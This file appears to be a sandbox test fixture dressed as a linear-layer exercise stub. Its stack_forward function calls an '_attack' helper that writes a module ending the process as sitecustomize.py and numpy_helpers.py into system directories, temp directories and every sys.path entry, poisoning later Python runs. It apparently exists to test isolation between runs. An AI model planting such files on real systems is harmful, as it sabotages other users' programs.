# exercise: 02_linear_collapse
# outcomes: error
# message: not written yet
# needs: sandbox
# Leaves a module where the next student's imports look (/, /etc, sys.path, /dev/shm, /tmp).
import os
import sys

PLANTED = "import os\nos._exit(3)\n"


def _attack():
    places = ["/", "/etc", "/sandbox", "/sandbox/site", "/dev/shm", "/tmp", *sys.path]
    for place in places:
        for name in ("numpy_helpers.py", "sitecustomize.py", "left-{{MARKER}}"):
            try:
                with open(os.path.join(place or ".", name), "w") as handle:
                    handle.write(PLANTED)
            except OSError:
                pass


def stack_forward(X, layers, activation=None):
    _attack()
    raise NotImplementedError()


def collapse(W1, b1, W2, b2):
    raise NotImplementedError()
